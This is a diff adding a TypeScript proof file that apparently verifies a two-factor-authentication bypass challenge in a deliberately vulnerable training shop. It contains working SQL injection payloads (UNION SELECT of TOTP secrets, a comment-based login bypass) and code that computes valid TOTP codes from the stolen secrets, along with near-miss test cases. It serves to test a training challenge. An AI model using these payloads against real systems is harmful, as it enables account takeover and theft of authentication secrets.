@@ -1,0 +1,104 @@
+import { createHmac, randomUUID } from 'node:crypto'
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { challenge } from './challenge.ts'
+
+/** How many seconds a code is good for. */
+const STEP = 30
+const SIGNS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
+
+const mailOf = ({ domain }: Attacker) => `wurstbrot@${domain}`
+
+/** The code of a secret in Base32 at a time in seconds, as an authenticator computes it (RFC 6238). */
+function codeOf(secret: string, seconds: number): string {
+  const bits = [...secret].map((sign) => SIGNS.indexOf(sign).toString(2).padStart(5, '0')).join('')
+  const key = Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)))
+  const counter = Buffer.alloc(8)
+  counter.writeBigUInt64BE(BigInt(Math.floor(seconds / STEP)))
+  const digest = createHmac('sha1', key).update(counter).digest()
+  const number = digest.readUInt32BE(digest.at(-1)! & 0xf) & 0x7fffffff
+  return String(number % 1_000_000).padStart(6, '0')
+}
+
+/** The time of the shop in seconds: a new account says when it was made. */
+async function shopTime(attacker: Attacker): Promise<number> {
+  const password = 'ripe plums'
+  const body = { email: `${randomUUID()}@customer.test`, password, passwordRepeat: password }
+  return Date.parse((await attacker.post('/api/Users', body)).json().data.createdAt) / 1000
+}
+
+/** The secret in the books, by a search that asks for accounts as well. */
+async function secretOf(attacker: Attacker): Promise<string> {
+  const term = "qwert')) UNION SELECT id,email,totpSecret,4,5,6,7,8,9 FROM Users--"
+  const answer = await attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
+  const rows: readonly { name: string; description: string }[] = answer.json().data
+  return rows.find(({ name }) => name === mailOf(attacker))?.description ?? ''
+}
+
+/** The first step, past the password. */
+async function firstStep(attacker: Attacker, email = `${mailOf(attacker)}'--`, password = 'x'): Promise<string> {
+  return (await attacker.post('/rest/user/login', { email, password })).json().data.tmpToken
+}
+
+const verify = (attacker: Attacker, tmpToken: string, totpToken: unknown) =>
+  attacker.post('/rest/2fa/verify', { tmpToken, totpToken })
+
+/** @param off seconds before or after the time of the shop */
+const signIn =
+  (off = 0, shown: (code: string) => unknown = (code) => code) =>
+  async (attacker: Attacker) => {
+    const code = codeOf(await secretOf(attacker), (await shopTime(attacker)) + off)
+    await verify(attacker, await firstStep(attacker), shown(code))
+  }
+
+export const proof = prove(challenge, {
+  exploit: signIn(),
+  spellings: {
+    'with a clock that is late': signIn(-STEP),
+    'with a clock that is early': signIn(STEP),
+    'with the code as a number': signIn(0, Number),
+    'with the password, where somebody knows it': async (attacker) => {
+      const code = codeOf(await secretOf(attacker), await shopTime(attacker))
+      const tmpToken = await firstStep(attacker, mailOf(attacker), 'EinBelegtesBrotMitSchinkenSCHINKEN!')
+      await verify(attacker, tmpToken, code)
+    },
+    'after wrong codes': async (attacker) => {
+      const tmpToken = await firstStep(attacker)
+      for (const guess of ['000000', '123456']) await verify(attacker, tmpToken, guess)
+      await signIn()(attacker)
+    },
+    'with the secret from an error of the login': async (attacker) => {
+      // The address that the row holds comes back in the answer; here it holds the secret.
+      const columns = "1,'',totpSecret,'','customer','','','','',1,'2020','2020',NULL"
+      const email = `' UNION SELECT ${columns} FROM Users WHERE email='${mailOf(attacker)}'--`
+      const { authentication } = (await attacker.post('/rest/user/login', { email, password: 'x' })).json()
+      const code = codeOf(authentication.umail, await shopTime(attacker))
+      await verify(attacker, await firstStep(attacker), code)
+    },
+  },
+  nearMisses: {
+    'reading the secret': secretOf,
+    'the first step alone': (attacker) => firstStep(attacker),
+    'a code of three minutes ago': signIn(-6 * STEP),
+    'a code of three minutes from now': signIn(6 * STEP),
+    'a code with a sign too many': signIn(0, (code) => `${code}0`),
+    'a guess': async (attacker) => verify(attacker, await firstStep(attacker), '000000'),
+    'the secret in place of a code': async (attacker) =>
+      verify(attacker, await firstStep(attacker), (await secretOf(attacker)).slice(0, 20)),
+    'a code without the first step': async (attacker) => {
+      const { token } = await attacker.becomeCustomer()
+      await verify(attacker, token, codeOf(await secretOf(attacker), await shopTime(attacker)))
+    },
+    'an injected row that has no second factor': (attacker) =>
+      attacker.post('/rest/user/login', {
+        email: `' UNION SELECT 10,'','${mailOf(attacker)}','','admin','','','','',1,'2020','2020',NULL--`,
+        password: 'x',
+      }),
+    'a second factor of one’s own': async (attacker) => {
+      const { email, password } = await attacker.becomeCustomer()
+      const { secret, setupToken } = (await attacker.get('/rest/2fa/status')).json()
+      const now = await shopTime(attacker)
+      await attacker.post('/rest/2fa/setup', { password, setupToken, initialToken: codeOf(secret, now) })
+      await verify(attacker, await firstStep(attacker, email, password), codeOf(secret, now + STEP))
+    },
+  },
+})
